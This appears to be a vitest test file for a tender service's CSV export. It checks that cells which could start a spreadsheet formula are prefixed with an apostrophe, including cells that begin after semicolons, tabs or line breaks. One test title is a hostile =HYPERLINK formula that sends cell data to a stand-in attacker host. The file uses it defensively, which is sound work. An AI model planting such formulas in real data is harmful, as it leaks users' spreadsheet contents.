import { parse } from "csv-parse/sync"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { type Account, addScoredTenders, api, createAccount } from "../api/fixtures.js"
import { startTestServer, type TestServer } from "../support/TestServer.js"

// Titles as a TED or SEAP notice (or an imported file) could carry them: stored as they are.
const TITLES = [
  '=HYPERLINK("https://attacker.example/?d="&A1,"Detalii")',
  "+40 SUM(1;2)",
  "@SUM(A1:A2)",
  "-2+3 Lucrări de reparații",
  "Lucrări = 2 loturi"
]

describe("the CSV export and spreadsheet formulas", () => {
  let server: TestServer
  let account: Account

  beforeAll(async () => {
    server = await startTestServer({ rateLimits: { generalPerMinute: 10_000, exportPerHour: 10_000 } })
    account = await createAccount(server)
    await addScoredTenders(
      server,
      account,
      TITLES.map((title, i) => ({ score: 80 - i, publishDate: `2026-04-0${i + 1}T08:00:00Z`, title }))
    )
  }, 120_000)
  afterAll(() => server.close())

  const exportAs = async (format: "csv" | "json") => {
    const url = api(server, "/api/v1/export/tenders", {
      companyId: account.companyId,
      from: "2026-04-01",
      to: "2026-04-30",
      format
    })
    const res = await fetch(url, { headers: { authorization: `Bearer ${account.key}` } })
    expect(res.status).toBe(200)
    return res.text()
  }

  it("a text cell starting with = + - or @ is written after an apostrophe (shown as text); JSON keeps it as stored", async () => {
    const rows = parse(await exportAs("csv"), { bom: true, columns: true }) as Array<Record<string, string>>
    expect(rows.map((row) => row.title).sort()).toEqual(
      [
        `'${TITLES[0]}`,
        `'${TITLES[1]}`,
        `'${TITLES[2]}`,
        `'${TITLES[3]}`,
        TITLES[4] // an "=" inside the text is no formula
      ].sort()
    )
    // Numbers and dates are untouched.
    expect(rows.every((row) => /^\d+$/.test(row.overall_score!) && /^2026-04-0\dT/.test(row.publish_date!))).toBe(true)
    const json = JSON.parse(await exportAs("json")) as { data: Array<{ title: string }> }
    expect(json.data.map((row) => row.title).sort()).toEqual([...TITLES].sort())
  })

  it("a formula after a ';', a tab or a line break inside a text is written after an apostrophe too (Excel under Romanian settings splits there)", async () => {
    const owner = await createAccount(server)
    const titles = ["Lucrări;=1+2;etapa 2", "Lot 1\t@SUM(A1:A2)", "Lot 1\n-2+3 reparații", "Lot 1; lot 2 - drumuri"]
    await addScoredTenders(
      server,
      owner,
      titles.map((title, i) => ({ score: 70 - i, publishDate: `2026-05-0${i + 1}T08:00:00Z`, title }))
    )
    const url = api(server, "/api/v1/export/tenders", {
      companyId: owner.companyId,
      from: "2026-05-01",
      to: "2026-05-31",
      format: "csv"
    })
    const text = await (await fetch(url, { headers: { authorization: `Bearer ${owner.key}` } })).text()
    const rows = parse(text, { bom: true, columns: true }) as Array<Record<string, string>>
    expect(rows.map((row) => row.title)).toEqual([
      "Lucrări;'=1+2;etapa 2",
      "Lot 1\t'@SUM(A1:A2)",
      "Lot 1\n'-2+3 reparații",
      "Lot 1; lot 2 - drumuri"
    ])
    // Read as a reader that splits at ';', tabs and line breaks whatever the quotes: no cell starts a formula.
    const cells = text.replace(/^\uFEFF/, "").split(/[;\t\r\n]/)
    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([])
  })
})
